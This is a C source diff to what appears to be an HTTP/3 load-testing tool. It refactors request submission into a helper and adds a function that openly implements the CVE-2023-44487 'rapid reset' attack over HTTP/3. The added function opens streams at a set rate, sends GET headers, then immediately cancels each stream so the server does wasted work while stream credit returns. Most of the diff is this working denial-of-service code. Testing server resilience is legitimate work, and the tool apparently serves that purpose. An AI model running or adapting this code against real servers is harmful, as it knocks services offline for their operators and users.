@@ -174,6 +174,90 @@ stream_free_slot(struct qsl_conn *c)
 	{(uint8_t *)(n), (uint8_t *)(v), sizeof(n) - 1, strlen(v), \
 	 NGHTTP3_NV_FLAG_NO_COPY_NAME | NGHTTP3_NV_FLAG_NO_COPY_VALUE}
 
+/* A GET for the next URI on stream sid; st is the stream's user data
+ * (NULL: nothing is counted for it). nghttp3's return value. */
+static int
+submit_get(struct qsl_conn *c, int64_t sid, struct qsl_stream *st, uint32_t uri)
+{
+	const struct qsl_options *opt = c->w->opt;
+	const struct qsl_uri *u = &opt->uris[uri];
+	/* the strings live as long as the options */
+	nghttp3_nv nva[5 + QSL_MAX_HEADERS] = {
+		NV(":method", "GET"),
+		NV(":scheme", "https"),
+		NV(":authority", u->authority),
+		NV(":path", u->path),
+		NV("user-agent", USER_AGENT),
+	};
+
+	memcpy(&nva[5], opt->headers, opt->n_headers * sizeof(nva[0]));
+	return nghttp3_conn_submit_request(c->q.h3, sid, nva, 5 + opt->n_headers,
+					   NULL, st);
+}
+
+/* Rapid reset (CVE-2023-44487's pattern over HTTP/3): each stream gets a
+ * request whose HEADERS go out, then RESET_STREAM and STOP_SENDING
+ * (H3_REQUEST_CANCELLED) right after, so the server does a request's
+ * work for nothing and the stream credit comes back at once. */
+int
+qsl_h3_rapid_reset(struct qsl_conn *c, uint64_t now,
+		   int (*write)(struct qsl_conn *c))
+{
+	struct qsl_worker *w = c->w;
+	double rate = w->opt->rapid_reset_rate;
+	/* at most 10 ms of streams at once, and one batch */
+	double burst = rate / 100 < 1 ? 1
+		       : rate / 100 > QSL_RR_BATCH ? QSL_RR_BATCH : rate / 100;
+	bool blocked = false;
+	int rv;
+
+	if (c->rr_last == 0) {
+		c->rr_last = now;
+		c->rr_credit = 1;
+	}
+	c->rr_credit += (double)(now - c->rr_last) * rate / NGTCP2_SECONDS;
+	c->rr_last = now;
+	if (c->rr_credit > burst)
+		c->rr_credit = burst;
+	while (c->rr_credit >= 1 && c->rr_n_pending < QSL_RR_BATCH) {
+		int64_t sid;
+
+		rv = ngtcp2_conn_open_bidi_stream(c->q.conn, &sid, NULL);
+		if (rv == NGTCP2_ERR_STREAM_ID_BLOCKED) {
+			blocked = true;	/* MAX_STREAMS brings us back */
+			break;
+		}
+		if (rv != 0)
+			return -1;
+		rv = submit_get(c, sid, NULL, c->uri_next++ % (uint32_t)w->opt->n_uris);
+		if (rv == NGHTTP3_ERR_CONN_CLOSING) {
+			ngtcp2_conn_shutdown_stream(c->q.conn, sid, NGHTTP3_H3_REQUEST_CANCELLED);
+			c->goaway = true;
+			break;
+		}
+		if (rv != 0)
+			return -1;
+		c->rr_pending[c->rr_n_pending++] = sid;
+		c->rr_credit -= 1;
+	}
+	if (c->rr_n_pending > 0) {
+		/* the requests go out first, as an attacker's would */
+		if (write(c) != 0 || c->state != QSL_SLOT_ACTIVE)
+			return 1;	/* the connection ended (counted there) */
+		for (uint32_t i = 0; i < c->rr_n_pending; i++) {
+			nghttp3_conn_shutdown_stream_read(c->q.h3, c->rr_pending[i]);
+			ngtcp2_conn_shutdown_stream(c->q.conn, c->rr_pending[i],
+						    NGHTTP3_H3_REQUEST_CANCELLED);
+		}
+		STAT_ADD(w, rr_streams, c->rr_n_pending);
+		c->rr_n_pending = 0;
+	}
+	c->rr_next_at = blocked ? 0
+		: now + (uint64_t)((1 - (c->rr_credit < 1 ? c->rr_credit : 0)) *
+				   NGTCP2_SECONDS / rate);
+	return 0;
+}
+
 int
 qsl_h3_submit(struct qsl_conn *c)
 {
@@ -183,7 +267,6 @@ qsl_h3_submit(struct qsl_conn *c)
 	while (c->inflight < opt->streams && c->quota > 0 && !w->draining &&
 	       !(opt->conn_requests && c->served + c->inflight >= opt->conn_requests)) {
 		struct qsl_stream *st = stream_free_slot(c);
-		const struct qsl_uri *u;
 		int64_t sid;
 		int rv;
 
@@ -195,23 +278,7 @@ qsl_h3_submit(struct qsl_conn *c)
 		if (rv != 0)
 			return -1;
 		st->uri = c->uri_next++ % (uint32_t)opt->n_uris;
-		u = &opt->uris[st->uri];
-		{
-			/* the strings live as long as the options */
-			nghttp3_nv nva[5 + QSL_MAX_HEADERS] = {
-				NV(":method", "GET"),
-				NV(":scheme", "https"),
-				NV(":authority", u->authority),
-				NV(":path", u->path),
-				NV("user-agent", USER_AGENT),
-			};
-
-			memcpy(&nva[5], opt->headers,
-			       opt->n_headers * sizeof(nva[0]));
-			rv = nghttp3_conn_submit_request(c->q.h3, sid, nva,
-							 5 + opt->n_headers,
-							 NULL, st);
-		}
+		rv = submit_get(c, sid, st, st->uri);
 		if (rv == NGHTTP3_ERR_CONN_CLOSING) {
 			ngtcp2_conn_shutdown_stream(c->q.conn, sid, NGHTTP3_H3_REQUEST_CANCELLED);
 			c->goaway = true;
